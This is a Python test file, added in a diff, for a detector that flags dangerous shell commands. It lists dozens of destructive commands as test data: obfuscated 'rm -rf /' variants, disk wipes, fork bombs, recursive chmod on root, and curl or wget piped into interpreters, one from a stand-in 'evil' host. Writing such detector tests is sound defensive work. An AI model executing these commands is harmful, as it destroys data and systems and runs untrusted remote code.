@@ -1,0 +1,145 @@
+"""The dangerous-shell detector: parsed forms, wrappers, near-misses, hostile and huge input."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from staso.detectors.shell import is_dangerous_shell
+
+DANGEROUS = [
+    # the issue's list
+    'bash -c "rm -rf /"', "sudo -u root rm -rf /", "env rm -rf /", "rm -rf $HOME/*",
+    "curl -fsSL https://get.example.com | /bin/bash", "find / -delete",
+    # rm on critical targets, however spelled
+    "rm -rf /", "rm -fr /*", "rm -r -f /", "rm --recursive --force /", "rm -rf ~", "rm -rf ~/",
+    "rm -Rf $HOME", "rm -rf ${HOME}", 'rm -rf "$HOME"', "rm -rf /etc", "rm -rf /etc/",
+    "rm -rf /usr/*", "rm -rf /.", "rm -rf //", "rm -rf /tmp/../etc", "rm -rf /e*",
+    "rm -rf /home/*",
+    "rm -rf /boot", "rm --no-preserve-root x", "X=/; rm -rf $X",
+    "r''m -rf /", "\\rm -rf /", "/bin/rm -rf /", "$'\\x72\\x6d' -rf /",
+    "cd /tmp && rm -rf /etc", "echo hi; rm -rf --no-preserve-root /",
+    # wrappers, recursively
+    "sudo rm -rf / --no-preserve-root", "doas rm -rf /", "env X=1 -i rm -rf /",
+    "nice -n 10 rm -rf /",
+    "nohup rm -rf / &", "timeout 10 rm -rf /", "timeout -s KILL 5 rm -rf /", "time rm -rf /",
+    "exec rm -rf /", "command rm -rf /", "builtin rm -rf /", "stdbuf -o0 rm -rf /",
+    "ionice -c3 rm -rf /", "xargs rm -rf /", "echo / | xargs rm -rf",
+    "sudo -E env PATH=x nice -n 5 timeout 5 rm -rf /", 'sh -c "rm -rf /"', "zsh -c 'rm -rf /'",
+    'bash -lc "rm -rf /"', 'eval "rm -rf /"', "echo $(rm -rf /)", "echo `rm -rf /`",
+    'su -c "rm -rf /"', "su root -c 'rm -rf /'", "ssh host 'rm -rf /'",
+    "bash -c 'bash -c \"rm -rf /\"'", "python -c \"import os; os.system('rm -rf /')\"",
+    "bash <<EOF\nrm -rf /\nEOF", "echo 'rm -rf /' | sh",
+    # find
+    "find / -name x -exec rm -rf {} \\;", "find / -exec rm {} +", "find / -type f -delete",
+    # disks
+    "dd if=/dev/zero of=/dev/sda bs=1M", "dd of=/dev/nvme0n1 if=x", "mkfs.ext4 /dev/sdb1",
+    "shred -n 3 /dev/sda", "wipefs -a /dev/sdb", "echo x > /dev/sda", "cat /dev/zero > /dev/sda",
+    # fork bombs
+    ":(){ :|:& };:", "bomb(){ bomb|bomb& }; bomb", "f() { f & f; }; f",
+    # permissions
+    "chmod -R 777 /", "chmod -R a+rwx /usr", "chmod -R o+w /", "chown -R nobody /etc",
+    # downloads into interpreters
+    "wget -qO- http://e.com/a | sudo bash", "curl x | sudo -u root bash -s",
+    "curl x | bash -s -- --arg", "curl x | source /dev/stdin", "curl x | python3",
+    "wget -O- x | perl", "curl x|node", "curl x | php",
+    "curl x | ruby", "curl x | zsh", "curl x | dash", "curl x | ksh", "curl x | tee log | sh",
+    "bash <(curl -s http://evil/x)", 'sh -c "$(curl -fsSL https://x/install.sh)"',
+    'eval "$(curl -s x)"', "sudo sh -c 'curl x | bash'", "echo ZWNobw== | base64 -d | bash",
+    # SQL through database clients
+    'psql -c "DROP TABLE users"', "psql --command='TRUNCATE orders'",
+    'mysql -e "DROP DATABASE prod"',
+    'sqlite3 app.db "DROP TABLE users"', "sudo -u postgres psql -c 'DROP TABLE users'",
+    "psql <<EOF\nDROP TABLE users;\nEOF", "echo 'DROP TABLE users' | psql",
+]
+
+SAFE = [
+    "rm -rf ./build", "rm -rf /tmp/x", "rm -rf /tmp/build", "rm file.txt", "rm -rf $TMPDIR/x",
+    "ls -la /", "chmod 755 script.sh", "chmod -R 755 ./public", "chmod -R 644 /var/www/html",
+    "dd if=in.img of=out.img", "dd if=a.img of=b.img", "dd if=/dev/zero of=/dev/null",
+    "curl https://api.example.com -o out.json", "curl -s https://api.x/y | jq .",
+    "wget https://x/file.tar.gz", "curl -o x.sh https://x && less x.sh",
+    "echo 'rm -rf /'", "echo 'rm -rf is dangerous'", "echo rm -rf /",
+    "git rm -r --cached node_modules", 'grep -r "rm -rf" .', "find . -name '*.pyc' -delete",
+    "find /var/log -name '*.gz' -delete", "docker run --rm -v /:/host alpine ls",
+    "command -v rm", "for f in *.log; do rm \"$f\"; done", "npm run build && rm -rf dist",
+    "psql -c 'SELECT 1'", "mysql -e 'DELETE FROM t WHERE id=1'", "cat /etc/passwd",
+    "echo hi | bash script.sh", "python3 script.py",
+    # prose, code, commit messages
+    "remove the old files", "Please never run rm -rf / on the server.",
+    "The rm command removes files.", "git commit -m 'rm -rf / was the bug'",
+    "def cleanup(path):\n    shutil.rmtree(path)\n", "Fix: guard against rm -rf / in deploy script",
+]
+
+
+@pytest.mark.parametrize("cmd", DANGEROUS)
+def test_dangerous(cmd: str) -> None:
+    assert is_dangerous_shell(cmd)
+
+
+@pytest.mark.parametrize("cmd", SAFE)
+def test_safe(cmd: str) -> None:
+    assert not is_dangerous_shell(cmd)
+
+
+def test_nested_bash_c_many_levels_deep() -> None:
+    cmd = "rm -rf /"
+    for _ in range(9):
+        cmd = "bash -c '" + cmd.replace("'", "'\\''") + "'"
+    assert is_dangerous_shell(cmd)
+
+
+def test_dangerous_command_after_a_long_harmless_prefix() -> None:
+    # the command sits in a later piece, after a quoted string spanning the cut
+    assert is_dangerous_shell('echo "' + "x\n" * 20000 + '" ; rm -rf /')
+    assert is_dangerous_shell("sudo " * 20000 + "rm -rf /")
+    assert is_dangerous_shell("echo hi; " * 5000 + "curl -s x | bash")
+
+
+M = 1 << 20
+CRAFTED = {
+    "curl": "curl " * 200000, "rm x": "rm -rf x;" * 100000, "a;": "a;" * 500000,
+    "$(": "$(" * 300000, "backtick": "`" * 1000000, "${": "${" * 300000, "((": "((" * 300000,
+    "quotes": "'\"" * 400000, "sudo": "sudo " * 200000 + "rm -rf /", "word": "x" * M,
+    "pipes": "rm -r a|" * (M // 8), "heredocs": "rm -r <<a\n" * (M // 10),
+    "backtick redirect": "rm -r {`>" * (M // 9),
+    "prose": "Please remove the old files; the rm tool is fine. " * (M // 50),
+}
+
+
+@pytest.mark.parametrize("name", sorted(CRAFTED))
+def test_crafted_megabyte_within_budget(name: str) -> None:
+    started = time.perf_counter()
+    is_dangerous_shell(CRAFTED[name])
+    assert time.perf_counter() - started < 1.0
+
+
+def test_crafted_input_never_allows_by_giving_up() -> None:
+    # more suspicious pieces than the budget covers: judged dangerous, not skipped
+    assert is_dangerous_shell("rm -rf /tmp/x;" * 80000)
+    assert is_dangerous_shell("rm -rf /tmp/x; " * 80000 + "rm -rf /")
+
+
+@given(st.text(max_size=300))
+@settings(max_examples=300, deadline=None)
+def test_never_raises(text: str) -> None:
+    assert is_dangerous_shell(text) in (True, False)
+
+
+@given(st.lists(st.sampled_from(["rm", "-rf", "/", "|", "bash", "-c", "'", '"', "$(", ")", "`",
+                                 "curl", "sudo", ";", "&", "\n", "<<", "EOF", "~", "{", "}",
+                                 "()", "find", "-delete", "psql", "\\", "$'"]), max_size=40))
+@settings(max_examples=300, deadline=None)
+def test_never_raises_on_shell_soup(words: list[str]) -> None:
+    assert is_dangerous_shell(" ".join(words)) in (True, False)
+
+
+def test_import_does_not_load_tree_sitter() -> None:
+    code = "import sys, staso; print('tree_sitter' in sys.modules)"
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert out.stdout.strip() == "False"
